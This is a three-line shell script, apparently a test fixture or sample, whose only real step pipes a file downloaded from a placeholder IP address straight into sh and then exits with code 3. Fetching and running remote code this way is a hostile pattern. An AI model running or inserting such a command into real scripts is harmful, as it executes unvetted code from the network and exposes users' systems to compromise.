#!/bin/sh
curl http://192.0.2.10/a | sh
exit 3
